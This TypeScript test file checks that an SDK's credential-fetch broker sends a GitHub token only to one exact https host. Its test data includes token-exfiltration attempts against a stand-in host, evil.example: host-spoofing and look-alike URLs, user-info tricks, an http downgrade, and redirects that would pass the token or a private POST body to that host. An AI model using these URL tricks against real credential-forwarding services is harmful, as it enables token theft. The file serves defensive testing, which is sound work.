/**
 * `ctx.credentials.fetch` sends a credential only where its provider allows (spec PR #3285,
 * "Credential Destination Injection"): an exact listed host, over https, without user info, and
 * each redirect checked again. Each attack is refused with nothing sent to the foreign host, next
 * to the same request to the listed host, which gets the token.
 */
import { afterEach, describe, expect, it } from "vitest";
import { SdkError } from "../../src/jsonrpc/errors.js";
import { type Api, brokerWith, contextFor, routedFetch, startApi } from "./credential-fetch-support.js";

const TOKEN = "gho_tok/en+Value=8f3Kq2";
const GITHUB = { provider: "github", secret: TOKEN, scopes: ["repo"], updatedAt: 0 };
const apis: Api[] = [];
afterEach(async () => {
  for (const api of apis.splice(0)) await api.close();
});

async function api(answer?: Parameters<typeof startApi>[0]): Promise<Api> {
  const started = await startApi(answer);
  apis.push(started);
  return started;
}

/** A broker whose github token may go to `api.github.example` only, with these servers behind the names. */
async function github(routes: Record<string, Api>, options: Parameters<typeof brokerWith>[1] = {}) {
  const asked: string[] = [];
  const world = await brokerWith([GITHUB], {
    providers: { github: { issuer: "https://github.example", clientId: "c", apiHosts: ["api.github.example"] } },
    fetch: routedFetch(routes, asked),
    ...options,
  });
  const send = (url: string, init: RequestInit = {}) => world.broker.fetch("github", url, init, contextFor());
  return { ...world, asked, send };
}

async function refusal(promise: Promise<unknown>): Promise<SdkError> {
  const error = await promise.then(
    () => undefined,
    (failure: unknown) => failure,
  );
  expect(error).toBeInstanceOf(SdkError);
  expect((error as SdkError).code).toBe("DESTINATION_REFUSED");
  expect((error as SdkError).message).not.toContain(TOKEN);
  return error as SdkError;
}

describe("ctx.credentials.fetch: the destination", () => {
  it("the listed https host gets the token as a bearer; a foreign host is refused and sent nothing", async () => {
    const listed = await api();
    const foreign = await api();
    const { send, asked } = await github({ "api.github.example": listed, "evil.example": foreign });
    const response = await send("https://api.github.example/user/repos");
    expect(response.status).toBe(200);
    expect(listed.received[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    const error = await refusal(send("https://evil.example/collect"));
    expect(error.message).toContain("evil.example");
    expect(error.message).toContain("github");
    expect(foreign.received).toEqual([]);
    expect(asked).toEqual(["https://api.github.example/user/repos"]);
  });

  it.each([
    ["a trailing dot", "https://api.github.example./user"],
    ["another port", "https://api.github.example:8443/user"],
    ["a look-alike in Cyrillic (punycode)", "https://аpi.github.example/user"],
    ["the listed name as a subdomain", "https://api.github.example.evil.example/user"],
    ["user info before the host", "https://api.github.example@evil.example/user"],
    ["user info on the listed host", "https://someone:pw@api.github.example/user"],
  ])("refuses %s, while the exact host in upper case (the same name) is allowed", async (_attack, url) => {
    const listed = await api();
    const { send, asked } = await github({ "api.github.example": listed });
    await refusal(send(url));
    expect(asked).toEqual([]);
    const response = await send("https://API.GitHub.Example:443/user");
    expect(response.status).toBe(200);
    expect(listed.received).toHaveLength(1);
  });

  it("refuses an http downgrade of the listed host; the same URL over https works", async () => {
    const listed = await api();
    const { send, asked } = await github({ "api.github.example": listed });
    const error = await refusal(send("http://api.github.example/user"));
    expect(error.message).toContain("not https");
    expect(asked).toEqual([]);
    expect((await send("https://api.github.example/user")).status).toBe(200);
  });

  it("refuses every host of a provider that lists none, before any hand-off", async () => {
    const listed = await api();
    const { broker } = await brokerWith([GITHUB], {
      providers: { github: { issuer: "https://github.example", clientId: "c" } },
      fetch: routedFetch({ "api.github.example": listed }),
    });
    await refusal(broker.fetch("github", "https://api.github.example/user", {}, contextFor()));
    expect(listed.received).toEqual([]);
  });

  it("http to a listed loopback host only with unsafeHttpLoopbackForDevelopment; a non-loopback host never", async () => {
    const local = await api();
    const host = new URL(local.origin).host;
    const providers = {
      github: { issuer: "https://github.example", clientId: "c", apiHosts: [host, "api.github.example"] },
    };
    const strict = await brokerWith([GITHUB], { providers });
    await refusal(strict.broker.fetch("github", `${local.origin}/user`, {}, contextFor()));
    expect(local.received).toEqual([]);
    const dev = await brokerWith([GITHUB], { providers, unsafeHttpLoopbackForDevelopment: true });
    const response = await dev.broker.fetch("github", `${local.origin}/user`, {}, contextFor());
    expect(response.status).toBe(200);
    expect(local.received[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    await refusal(dev.broker.fetch("github", "http://api.github.example/user", {}, contextFor()));
  });
});

describe("ctx.credentials.fetch: redirects", () => {
  it("a redirect within the listed host is followed with the token again; one to a foreign host is refused", async () => {
    const foreign = await api();
    const listed = await api((request, response) => {
      if (request.path === "/moved") response.writeHead(302, { location: "/user/repos" }).end();
      else if (request.path === "/away") response.writeHead(302, { location: "https://evil.example/take" }).end();
      else response.writeHead(200).end("repos");
    });
    const { send } = await github({ "api.github.example": listed, "evil.example": foreign });
    const response = await send("https://api.github.example/moved");
    expect(await response.text()).toBe("repos");
    expect(listed.received.map((r) => [r.path, r.headers.authorization])).toEqual([
      ["/moved", `Bearer ${TOKEN}`],
      ["/user/repos", `Bearer ${TOKEN}`],
    ]);
    const error = await refusal(send("https://api.github.example/away"));
    expect(error.message).toContain("evil.example");
    expect(foreign.received).toEqual([]);
  });

  it("a redirect to http on the same host is refused; to https on it, followed", async () => {
    const listed = await api((request, response) => {
      if (request.path === "/down") response.writeHead(301, { location: "http://api.github.example/user" }).end();
      else if (request.path === "/up") response.writeHead(301, { location: "https://api.github.example/user" }).end();
      else response.writeHead(200).end("user");
    });
    const { send, asked } = await github({ "api.github.example": listed });
    await refusal(send("https://api.github.example/down"));
    expect(asked).toEqual(["https://api.github.example/down"]);
    expect(await (await send("https://api.github.example/up")).text()).toBe("user");
  });

  it("a 307 that would re-send the body to a foreign host is refused; within the host the body is sent again", async () => {
    const foreign = await api();
    const listed = await api((request, response) => {
      if (request.path === "/away") response.writeHead(307, { location: "https://evil.example/take" }).end();
      else if (request.path === "/again") response.writeHead(307, { location: "/issues" }).end();
      else response.writeHead(201).end(request.body);
    });
    const { send } = await github({ "api.github.example": listed, "evil.example": foreign });
    const body = JSON.stringify({ title: "private notes" });
    await refusal(send("https://api.github.example/away", { method: "POST", body }));
    expect(foreign.received).toEqual([]);
    const response = await send("https://api.github.example/again", { method: "POST", body });
    expect(response.status).toBe(201);
    expect(await response.text()).toBe(body);
    expect(listed.received.at(-1)).toMatchObject({ method: "POST", path: "/issues", body });
  });

  it("a 303 after a POST goes on as a GET without the body", async () => {
    const listed = await api((request, response) => {
      if (request.path === "/create") response.writeHead(303, { location: "/created" }).end();
      else response.writeHead(200).end(`${request.method} ${request.body.length}`);
    });
    const { send } = await github({ "api.github.example": listed });
    const response = await send("https://api.github.example/create", { method: "POST", body: "a=1" });
    expect(await response.text()).toBe("GET 0");
  });

  it("stops after 5 redirects; 5 are followed", async () => {
    const listed = await api((request, response) => {
      const n = Number(request.path.slice(1));
      if (n > 0) response.writeHead(302, { location: `/${n - 1}` }).end();
      else response.writeHead(200).end("end");
    });
    const { send } = await github({ "api.github.example": listed });
    expect(await (await send("https://api.github.example/5")).text()).toBe("end");
    const error = await refusal(send("https://api.github.example/6"));
    expect(error.message).toContain("more than 5 redirects");
  });
});
